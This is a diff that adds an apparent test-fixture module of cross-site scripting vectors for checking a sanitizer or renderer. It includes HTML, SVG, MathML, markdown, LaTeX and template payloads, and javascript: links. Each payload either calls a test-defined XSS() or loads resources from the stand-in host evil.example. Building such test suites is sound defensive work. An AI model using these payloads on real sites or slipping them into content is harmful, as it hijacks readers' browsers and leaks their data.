@@ -1,0 +1,67 @@
+"""Texts by which a student would run a script, or make a request, in the browser of whoever reads them.
+
+Each calls `XSS()`, which the tests define, or asks the host evil.example, which nobody may.
+"""
+
+HOST = "evil.example"
+
+VECTORS = {
+    "script": "<script>XSS()</script>",
+    "script from elsewhere": '<script src="http://evil.example/a.js"></script>',
+    "script in capitals": "<ScRiPt>XSS()</sCrIpT >",
+    "script within script": "<scr<script>ipt>XSS()</scr</script>ipt>",
+    "script with a slash": "<script/x>XSS()</script>",
+    "script in svg": "<svg><script>XSS()</script></svg>",
+    "picture that fails": "<img src=x onerror=XSS()>",
+    "picture with quotes": '<img src="x" onerror="XSS()">',
+    "picture with backquotes": "<img src=`x`onerror=XSS()>",
+    "picture with a line break": "<img\nsrc=x\nonerror\n=\nXSS()>",
+    "picture without an end": "<img src=x onerror=XSS() ",
+    "picture from elsewhere": '<img src="http://evil.example/pixel.png">',
+    "picture in many sizes": '<img srcset="http://evil.example/2x.png 2x">',
+    "svg that loads": "<svg onload=XSS()></svg>",
+    "svg animation": "<svg><animate onbegin=XSS() attributeName=x dur=1s></svg>",
+    "svg of another document": '<svg><use href="http://evil.example/a.svg#b"></use></svg>',
+    "svg with html": "<svg><foreignObject><body onload=XSS()></foreignObject></svg>",
+    "body that loads": "<body onload=XSS()>",
+    "details that open": "<details open ontoggle=XSS()>",
+    "field with the focus": "<input autofocus onfocus=XSS()>",
+    "video that fails": "<video><source onerror=XSS()></video>",
+    "frame with a script": '<iframe src="javascript:parent.XSS()"></iframe>',
+    "frame with a document": '<iframe srcdoc="<script>parent.XSS()</script>"></iframe>',
+    "frame from elsewhere": '<iframe src="http://evil.example/"></iframe>',
+    "object with a script": '<object data="javascript:XSS()"></object>',
+    "embedded document": '<embed src="data:text/html,<script>parent.XSS()</script>">',
+    "style from elsewhere": '<link rel="stylesheet" href="http://evil.example/a.css">',
+    "style that imports": "<style>@import url(http://evil.example/b.css);</style>",
+    "style attribute": '<p style="background:url(http://evil.example/c.png)">text</p>',
+    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
+    "base of all links": '<base href="http://evil.example/">',
+    "form with the focus": '<form action="http://evil.example/"><button autofocus onfocus=XSS()>x</form>',
+    "end of a text": "</code></pre></textarea></title></style></script><img src=x onerror=XSS()>",
+    "end of an attribute": '"\'><img src=x onerror=XSS()><a title="',
+    "end of a comment": "--><img src=x onerror=XSS()><!--",
+    "character data": "<![CDATA[<img src=x onerror=XSS()>]]>",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=XSS()>">',
+    "maths that holds html": "<math><mtext><table><mglyph><style><img src=x onerror=XSS()>",
+    "formula with html": "$\\text{<img src=x onerror=XSS()>}$",
+    "formula with a script": "$\\text{<script>XSS()</script>}$",
+    "markdown picture": "![x](http://evil.example/m.png)",
+    "markdown picture by name": "![x][y]\n\n[y]: http://evil.example/n.png",
+    "markdown picture over two lines": "![x\ny](http://evil.example/o.png)",
+    "markdown picture within a link": "[![x](http://evil.example/p.png)](x)",
+    "markdown that ends a quote": '![x"onerror="XSS()](x)',
+    "template": "{{ ''.__class__ }}{% raw %}<img src=x onerror=XSS()>{% endraw %}",
+    "escaped html": "&lt;img src=x onerror=XSS()&gt;<img src=x onerror=&#88;SS()>",
+}
+# Those that act when somebody clicks on them.
+LINKS = {
+    "link": '<a href="javascript:XSS()">look</a>',
+    "link with a tab": '<a href="java\tscript:XSS()">look</a>',
+    "link in svg": '<svg><a xlink:href="javascript:XSS()"><text y="20">look</text></a></svg>',
+    "markdown link": "[look](javascript:XSS())",
+    "markdown link, escaped": "[look](&#106;avascript:XSS())",
+    "markdown link to data": "[look](data:text/html;base64,PHNjcmlwdD5YU1MoKTwvc2NyaXB0Pg==)",
+    "markdown link in brackets": "<javascript:XSS()>",
+    "link in a formula": "$\\href{javascript:XSS()}{look}$",
+}
